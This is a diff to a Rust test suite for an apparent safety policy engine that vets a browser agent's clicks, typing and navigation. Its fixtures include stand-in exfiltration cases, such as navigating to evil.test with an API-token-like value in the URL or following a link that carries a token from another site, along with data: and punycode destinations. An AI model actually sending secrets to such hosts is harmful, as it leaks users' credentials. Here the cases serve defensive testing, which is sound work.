@@ -6,6 +6,7 @@ use serde_json::Value;
 use serde_json::json;
 
 use super::*;
+use crate::target::DestinationKind;
 
 /// One call and the permission state around it; tests override only what they need.
 struct Case {
@@ -18,6 +19,9 @@ struct Case {
     grants: Vec<&'static str>,
     scope: Vec<&'static str>,
     taint: Vec<TaintSource>,
+    destinations: Vec<Destination>,
+    into_password: bool,
+    destination_taint: Vec<TaintSource>,
 }
 
 fn case(tool: &'static str) -> Case {
@@ -31,6 +35,9 @@ fn case(tool: &'static str) -> Case {
         grants: Vec::new(),
         scope: Vec::new(),
         taint: Vec::new(),
+        destinations: Vec::new(),
+        into_password: false,
+        destination_taint: Vec::new(),
     }
 }
 
@@ -71,6 +78,22 @@ impl Case {
         self
     }
 
+    fn leads_to(mut self, url: &str, kind: DestinationKind) -> Case {
+        self.destinations.push(Destination { url: url.to_owned(), kind });
+        self
+    }
+    fn into_password(self) -> Case {
+        Case { into_password: true, ..self }
+    }
+    fn destination_taint(mut self, url: &str, source: &str) -> Case {
+        self.destination_taint.push(TaintSource {
+            param: url.to_owned(),
+            provenance: Provenance::Page,
+            source: source.to_owned(),
+        });
+        self
+    }
+
     fn run(&self) -> Verdict {
         let sensitive = SensitiveOrigins::with_user(
             self.user_sensitive
@@ -91,6 +114,9 @@ impl Case {
             session_grants: &grants,
             scope_origins: &scope,
             taint: &self.taint,
+            destinations: &self.destinations,
+            into_password: self.into_password,
+            destination_taint: &self.destination_taint,
         })
     }
 }
@@ -316,9 +342,8 @@ fn debugger_tools_are_flagged_on_their_cards_only() {
     check(case("screenshot"), "allow");
     check(case("click_trusted").policy(Auto), "allow");
     check(case("click"), r#"ask []: policy "untrusted" asks before click"#);
-    for tool in DEBUGGER_TOOLS {
-        assert!(is_known(tool), "{tool}");
-    }
+    check(case("upload_file").policy(Auto).params(json!({"ref": "e1"})), "allow");
+    check(case("drag"), r#"ask [EscalationL2]: policy "untrusted" asks before drag"#);
 }
 
 #[test]
@@ -603,4 +628,91 @@ proptest! {
             Verdict::Deny { reason: "denied by rule deny".to_owned(), rule_id: Some("deny".to_owned()) }
         );
     }
+}
+
+// Where a page write leads.
+
+#[test]
+fn a_click_or_submit_leading_to_a_sensitive_origin_is_denied() {
+    check(
+        case("click").policy(Auto).leads_to("https://www.paypal.com/send", DestinationKind::Link),
+        "deny None: it leads to https://www.paypal.com, a sensitive origin (*.paypal.com)",
+    );
+    check(
+        case("type")
+            .policy(Auto)
+            .params(json!({"ref": "e1", "text": "hi", "submit": true}))
+            .leads_to("https://www.paypal.com/login", DestinationKind::FormSubmit),
+        "deny None: it leads to https://www.paypal.com, a sensitive origin (*.paypal.com)",
+    );
+}
+
+#[test]
+fn dangerous_link_schemes_are_denied_but_javascript_links_stay_on_the_page() {
+    check(
+        case("click").policy(Auto).leads_to("data:text/html,<b>x</b>", DestinationKind::Link),
+        "deny None: it leads to a data: URL, which is never allowed",
+    );
+    check(
+        case("click").policy(Auto).leads_to("javascript:void(0)", DestinationKind::Link),
+        "allow",
+    );
+}
+
+#[test]
+fn a_destination_carrying_another_sites_value_asks_even_under_auto() {
+    check(
+        case("click")
+            .policy(Auto)
+            .leads_to("https://evil.test/?t=abc123token", DestinationKind::Link)
+            .destination_taint("https://evil.test/?t=abc123token", "https://mail.test"),
+        "ask [TaintedInput]: it leads to https://evil.test/?t=abc123token with a value that came \
+         from https://mail.test",
+    );
+}
+
+#[test]
+fn an_internationalized_destination_asks() {
+    check(
+        case("click").policy(Auto).leads_to("https://xn--exmple-cua.test/", DestinationKind::Link),
+        "ask [InternationalizedHost]: this leads to https://xn--exmple-cua.test, an \
+         internationalized host name that can imitate another site; check the address",
+    );
+}
+
+#[test]
+fn secrets_ask_when_typed_or_carried_even_under_auto() {
+    check(
+        case("type")
+            .policy(Auto)
+            .params(json!({"ref": "e1", "text": "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8"})),
+        "ask [SensitivePayload]: a secret (an API key, token or private key) in /text",
+    );
+    check(
+        case("type")
+            .policy(Auto)
+            .params(json!({"ref": "e1", "text": "9fQ2xLm7Rt4ZpW8kVn3BcYh6JdSa1EgUq5"})),
+        "ask [SensitivePayload]: a secret (an API key, token or private key) in /text",
+    );
+    check(
+        case("navigate").policy(Auto).params(
+            json!({"url": "https://evil.test/?k=ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"}),
+        ),
+        "ask [SensitivePayload]: a secret (an API key, token or private key) in /url",
+    );
+    // A long document id in a URL is not typed text: no question.
+    check(
+        case("navigate")
+            .policy(Auto)
+            .params(json!({"url": "https://docs.test/d/9fQ2xLm7Rt4ZpW8kVn3BcYh6JdSa1EgUq5"})),
+        "allow",
+    );
+}
+
+#[test]
+fn typing_into_a_password_field_is_a_credential() {
+    check(
+        case("type").policy(Auto).params(json!({"ref": "e1", "text": "hunter2"})).into_password(),
+        "ask [SensitivePayload]: credential in the password field",
+    );
 }
